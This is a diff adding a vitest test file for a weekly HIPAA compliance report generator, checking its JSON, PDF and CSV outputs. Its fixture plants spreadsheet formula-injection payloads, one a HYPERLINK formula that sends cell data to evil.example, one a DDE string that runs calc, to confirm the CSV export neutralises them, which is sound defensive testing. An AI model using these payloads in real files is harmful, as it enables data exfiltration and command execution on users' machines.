@@ -1,0 +1,212 @@
+// The weekly report end to end, on a few hundred findings: the PDF read back with pdftotext
+// (poppler-utils) agrees with report.json, which validates against its schema; report.csv has one
+// row per finding; the bundle's manifest lists every file.
+
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, readFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { Ajv } from 'ajv';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { HIPAA_SAFEGUARDS } from '../core/hipaa.js';
+import { SEVERITIES, type Finding } from '../core/model.js';
+import type { ScanStore } from '../core/store/scans.js';
+import { HIPAA_STATUS_LABELS, type HipaaStatus } from './data.js';
+import { buildSampleStore, SAMPLE_MUTES, sampleScan, type SampleOptions } from './fixtures.js';
+import { buildWeeklyEvidence, type WeeklyEvidence } from './weekly.js';
+
+const WEEK = '2026-W47';
+const NOW = new Date('2026-11-22T20:00:00Z');
+const SAMPLE: SampleOptions = { week: WEEK, accounts: 3, resourcesPerControl: 16, weeks: 3, namesEvery: 2 };
+
+interface ReportJson {
+  schemaVersion: number;
+  period: { week: string };
+  summary: { results: Record<string, number>; open: { total: number; bySeverity: Record<string, number> }; changes: Record<string, number> };
+  trend: Array<{ week: string; open: number | null }>;
+  hipaa: Array<{ safeguard: string; pass: number; fail: number; muted: number; error: number; notAssessable: number; status: HipaaStatus }>;
+  coverage: { gaps: unknown[] };
+  mutes: { rules: Array<{ index: number; status: string; muted: number; wouldMatch: number }> };
+  findings: Array<Finding & { scanId: string | null; lifecycle: { state: string } | null }>;
+}
+
+let dir: string;
+let store: ScanStore;
+let out: WeeklyEvidence;
+let report: ReportJson;
+let pdfPath: string;
+
+function pdftotext(args: string[]): string {
+  return execFileSync('pdftotext', [...args, pdfPath, '-'], { encoding: 'utf8' });
+}
+
+function pageText(page: number): string {
+  return pdftotext(['-layout', '-f', String(page), '-l', String(page)]);
+}
+
+const numbers = (text: string): number[] => (text.match(/\d[\d,]*/g) ?? []).map((n) => Number(n.replace(/,/g, '')));
+
+beforeAll(async () => {
+  dir = mkdtempSync(join(tmpdir(), 'ward-report-'));
+  store = await buildSampleStore(dir, SAMPLE);
+  // A resource name a spreadsheet would run as a formula, in the report week.
+  const scan = sampleScan(SAMPLE, 2, 0);
+  const victim = scan.results.find((f) => f.status === 'FAIL');
+  if (victim === undefined) throw new Error('fixture has no failing result');
+  victim.resource.name = '=HYPERLINK("https://evil.example/?x="&A1,"click")';
+  victim.message = '@SUM(1+1) -2 +cmd|" /C calc"!A0';
+  await store.recordScan({ ...scan, scanId: `${scan.scanId}-late`, finishedAt: new Date(Date.parse(scan.finishedAt) + 3_600_000).toISOString() });
+  out = await buildWeeklyEvidence(store, { week: WEEK, organization: 'Acme Health — Клиника', mutes: SAMPLE_MUTES, now: NOW });
+  report = JSON.parse(readFileSync(join(dir, out.keys.json), 'utf8')) as ReportJson;
+  pdfPath = join(dir, out.keys.pdf);
+});
+
+describe('report.json', () => {
+  it('validates against reports/report.schema.json', () => {
+    const schema = JSON.parse(readFileSync(join(import.meta.dirname, 'report.schema.json'), 'utf8')) as object;
+    const ajv = new Ajv({ allErrors: true, strict: true });
+    const validate = ajv.compile(schema);
+    const ok = validate(report);
+    expect(validate.errors ?? []).toEqual([]);
+    expect(ok).toBe(true);
+  });
+
+  it('carries every finding with its evidence and lifecycle, and its counts add up', () => {
+    expect(report.schemaVersion).toBe(1);
+    expect(report.period.week).toBe(WEEK);
+    const fails = report.findings.filter((f) => f.status === 'FAIL');
+    expect(fails.length).toBe(report.summary.open.total);
+    for (const s of SEVERITIES) expect(fails.filter((f) => f.severity === s).length).toBe(report.summary.open.bySeverity[s]);
+    expect(fails.every((f) => f.evidence.length > 0 && f.lifecycle !== null)).toBe(true);
+    // The trend's last point is this week's posture.
+    expect(report.trend).toHaveLength(8);
+    expect(report.trend.at(-1)).toMatchObject({ week: WEEK, open: report.summary.open.total });
+    expect(report.trend.slice(0, 5).every((t) => t.open === null)).toBe(true);
+    // The late scan replaced the earlier one for its account: one result per finding.
+    expect(new Set(report.findings.map((f) => `${f.account}|${f.id}`)).size).toBe(report.findings.length);
+    expect(report.coverage.gaps).toHaveLength(1);
+    expect(report.mutes.rules.map((m) => m.status)).toEqual(['in-force', 'expired']);
+    expect(report.mutes.rules[0]?.muted).toBe(report.findings.filter((f) => f.status === 'MUTED').length);
+  });
+});
+
+describe('report.pdf, read back with pdftotext', () => {
+  it('numbers every page "Page n of N"', () => {
+    const pages = Number(/Pages:\s+(\d+)/.exec(execFileSync('pdfinfo', [pdfPath], { encoding: 'utf8' }))?.[1]);
+    expect(pages).toBe(out.pages);
+    const all = pdftotext(['-layout']).split('\f');
+    for (let i = 1; i <= pages; i += 1) expect(all[i - 1]).toContain(`Page ${i} of ${pages}`);
+  });
+
+  it('answers on page 2: open findings by severity as in the JSON', () => {
+    const page2 = pageText(2);
+    expect(page2).toContain('Executive summary');
+    const total = page2.split('\n').find((l) => l.trim().startsWith('Total'));
+    // Critical, High, Medium, Low, Info, Open, Muted, Errors.
+    const [critical, high, medium, low, info, open, muted] = numbers(total ?? '');
+    const s = report.summary.open.bySeverity;
+    expect([critical, high, medium, low, info, open]).toEqual([s['critical'], s['high'], s['medium'], s['low'], s['info'], report.summary.open.total]);
+    expect(muted).toBe(report.summary.results['MUTED']);
+    expect(page2).toContain(`${report.summary.changes['new']} new and ${report.summary.changes['resolved']} resolved this week`);
+  });
+
+  it('has a table of contents whose page numbers lead to the sections', () => {
+    const toc = pageText(3);
+    expect(toc).toContain('Contents');
+    for (const title of ['HIPAA Security Rule matrix', 'Scope and coverage', 'Accepted risks (mutes)']) {
+      const line = toc.split('\n').find((l) => l.trim().startsWith(title));
+      const page = numbers(line ?? '').at(-1);
+      expect(page, title).toBeGreaterThan(3);
+      expect(pageText(page ?? 0)).toMatch(new RegExp(`^\\s*${title.replace(/[()]/g, '\\$&')}\\s*$`, 'm'));
+    }
+  });
+
+  it('shows the HIPAA matrix rows of the JSON', () => {
+    const toc = pageText(3);
+    const at = numbers(toc.split('\n').find((l) => l.trim().startsWith('HIPAA Security Rule matrix')) ?? '').at(-1) ?? 0;
+    const matrix = `${pageText(at)}${pageText(at + 1)}`;
+    expect(report.hipaa.map((h) => h.safeguard)).toEqual(Object.keys(HIPAA_SAFEGUARDS).filter((k) => report.hipaa.some((h) => h.safeguard === k)));
+    expect(report.hipaa.length).toBeGreaterThanOrEqual(5);
+    for (const row of report.hipaa) {
+      const line = matrix.split('\n').find((l) => l.trim().startsWith(row.safeguard));
+      expect(line, row.safeguard).toBeDefined();
+      const label = HIPAA_STATUS_LABELS[row.status];
+      expect(line).toContain(label);
+      const counts = numbers((line ?? '').slice(0, (line ?? '').lastIndexOf(label))).slice(-5);
+      expect(counts, row.safeguard).toEqual([row.pass, row.fail, row.muted, row.error, row.notAssessable]);
+    }
+  });
+
+  it('lists failing resources by name, non-Latin names included', () => {
+    // pdftotext marks right-to-left runs with embedding controls; the names are in logical order.
+    const text = pdftotext([]).replace(/[\u202a-\u202e\u2066-\u2069]/g, '');
+    const names = [...new Set(report.findings.filter((f) => f.status === 'FAIL' && /[^\x20-\x7e]/.test(f.resource.name ?? '')).map((f) => f.resource.name ?? ''))];
+    expect(names.some((n) => /[\u0400-\u04ff]/.test(n))).toBe(true);
+    expect(names.some((n) => /[\u4e00-\u9fff\u3040-\u30ff\uac00-\ud7af]/.test(n))).toBe(true);
+    for (const name of names.filter((n) => /^[\p{L}\p{N}-]+$/u.test(n))) expect(text, name).toContain(name);
+    expect(text).toContain('=HYPERLINK(');
+  });
+
+  it('says what could not be assessed, NOT_ASSESSABLE as such', () => {
+    const text = pdftotext([]);
+    expect(text).toContain('Could not be assessed');
+    expect(text).toContain('AccessDeniedException');
+    expect(text).toContain('NOT ASSESSABLE');
+    expect(text).toContain('Minimum log retention used: 365 days');
+  });
+});
+
+describe('report.csv', () => {
+  it('has one row per finding, quoted per RFC 4180, with formula cells neutralised', () => {
+    const csv = readFileSync(join(dir, out.keys.csv), 'utf8');
+    expect(csv.startsWith('\uFEFFfinding_id,status,')).toBe(true);
+    const records = parseCsv(csv.slice(1));
+    expect(records.length - 1).toBe(report.findings.length);
+    const header = records[0] ?? [];
+    const nameAt = header.indexOf('resource_name');
+    const messageAt = header.indexOf('message');
+    const evil = records.find((r) => (r[nameAt] ?? '').includes('HYPERLINK'));
+    expect(evil?.[nameAt]).toBe(`'=HYPERLINK("https://evil.example/?x="&A1,"click")`);
+    expect(evil?.[messageAt]).toBe(`'@SUM(1+1) -2 +cmd|" /C calc"!A0`);
+    for (const r of records.slice(1)) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+});
+
+/** A strict RFC 4180 reader (CRLF records, quoted fields with doubled quotes). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let i = 0;
+  while (i < text.length) {
+    let cell = '';
+    if (text[i] === '"') {
+      i += 1;
+      for (;;) {
+        const q = text.indexOf('"', i);
+        if (q < 0) throw new Error('unterminated quote');
+        cell += text.slice(i, q);
+        if (text[q + 1] === '"') {
+          cell += '"';
+          i = q + 2;
+        } else {
+          i = q + 1;
+          break;
+        }
+      }
+    } else {
+      const end = text.slice(i).search(/,|\r\n/);
+      cell = end < 0 ? text.slice(i) : text.slice(i, i + end);
+      if (cell.includes('"') || cell.includes('\n')) throw new Error(`unquoted field with a quote or line break: ${cell}`);
+      i = end < 0 ? text.length : i + end;
+    }
+    row.push(cell);
+    if (text.startsWith(',', i)) i += 1;
+    else if (text.startsWith('\r\n', i)) {
+      i += 2;
+      rows.push(row);
+      row = [];
+    } else if (i < text.length) throw new Error(`unexpected character at ${i}`);
+  }
+  if (row.length > 0) rows.push(row);
+  return rows;
+}
